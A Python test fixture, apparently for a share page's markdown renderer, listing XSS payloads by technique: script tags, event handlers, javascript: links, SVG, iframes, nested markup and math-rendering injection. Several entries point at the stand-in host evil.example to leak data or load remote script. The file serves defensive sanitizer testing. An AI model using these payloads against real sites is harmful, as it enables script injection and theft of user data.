"""Hostile message contents for the share page, grouped by the trick they try.

Every payload that could run code calls ``alert`` (a dialog the browser test listens
for) and every payload that could fetch something points at ``evil.example`` (a
request the browser test listens for).
"""

from __future__ import annotations

EVIL = "https://evil.example"

SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    f"<SCRIPT SRC={EVIL}/xss.js></SCRIPT>",
    '"><script>alert(1)</script>',
    "</script><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--><script>alert(1)</script>-->",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
]

EVENT_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video src=x onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<xss id=x tabindex=1 autofocus onfocusin=alert(1)></xss>",
    f'<a href="{EVIL}" onclick="alert(1)">click me</a>',
    "<div onmouseover=alert(1) style=position:fixed;inset:0>cover</div>",
]

JAVASCRIPT_LINKS = [
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "javascript:alert(1)",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="&#x6A;&#x61;vascript:alert(1)">x</a>',
    f'[x]({EVIL} "title\\" onmouseover=\\"alert(1)")',
]

SVG = [
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    f'<svg><use href="{EVIL}/s.svg#x"/></svg>',
    f'<svg><image href="{EVIL}/i.png"/></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to=alert(1)>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    f"<svg><style>@import url({EVIL}/svg.css)</style></svg>",
]

FRAMES_AND_EMBEDS = [
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    f"<iframe src={EVIL}/frame></iframe>",
    f'<object data="{EVIL}/x.swf"></object>',
    f'<embed src="{EVIL}/x.swf">',
    f"<portal src={EVIL}></portal>",
    f'<form action="{EVIL}/steal"><button>go</button></form>',
    f'<base href="{EVIL}/">',
    f'<meta http-equiv="refresh" content="0;url={EVIL}">',
    f"<link rel=stylesheet href={EVIL}/s.css>",
    f"<link rel=prefetch href={EVIL}/p>",
    f"<style>@import '{EVIL}/x.css';</style>",
]

IMAGE_EXFILTRATION = [
    f"![leak]({EVIL}/leak?d=SECRET)",
    f"![leak][img]\n\n[img]: {EVIL}/ref.png",
    f'<img src="{EVIL}/i.png">',
    f'<img srcset="{EVIL}/s.png 1x">',
    f'<div style="background:url({EVIL}/bg.png)">bg</div>',
    f'<picture><source srcset="{EVIL}/p.png"><img></picture>',
    f"[![badge]({EVIL}/badge.svg)]({EVIL})",
    f"{EVIL}/bare-autolink.png",
]

ENTITIES = [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&#x3C;svg onload=alert(1)&#x3E;",
    "\\<script>alert(1)\\</script>",
]

MATH_AND_CODE = [
    "$\\href{javascript:alert(1)}{x}$",
    f"$$\\url{{{EVIL}}}$$",
    f"$\\htmlStyle{{background:url({EVIL}/k.png)}}{{x}}$",
    f"$\\includegraphics{{{EVIL}/g.png}}$",
    "$x</span><img src=x onerror=alert(1)>$",
    "$$\\begin{matrix}\\href{javascript:alert(1)}{x}\\end{matrix}$$",
    "$\\def\\a{\\a\\a}\\a$",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><img src=x onerror=alert(1)>\ncode\n```',
    "```\n</code></pre><img src=x onerror=alert(1)>\n```",
    "    <script>alert(1)</script>",
]

NESTED = [
    "**<img src=x onerror=alert(1)>**",
    "> <script>alert(1)</script>",
    "- [ ] <svg onload=alert(1)>",
    "| a | <img src=x onerror=alert(1)> |\n|---|---|\n| b | c |",
    "[<img src=x onerror=alert(1)>](https://example.com)",
    "**[*<b onmouseover=alert(1)>x</b>*](javascript:alert(1))**",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<div><details><summary>x</summary><img src=x onerror=alert(1)></details></div>",
    "<a href='https://example.com'>![x](" + EVIL + "/nested.png)</a>",
]

PAYLOADS: list[str] = [
    *SCRIPT_TAGS,
    *EVENT_HANDLERS,
    *JAVASCRIPT_LINKS,
    *SVG,
    *FRAMES_AND_EMBEDS,
    *IMAGE_EXFILTRATION,
    *ENTITIES,
    *MATH_AND_CODE,
    *NESTED,
]
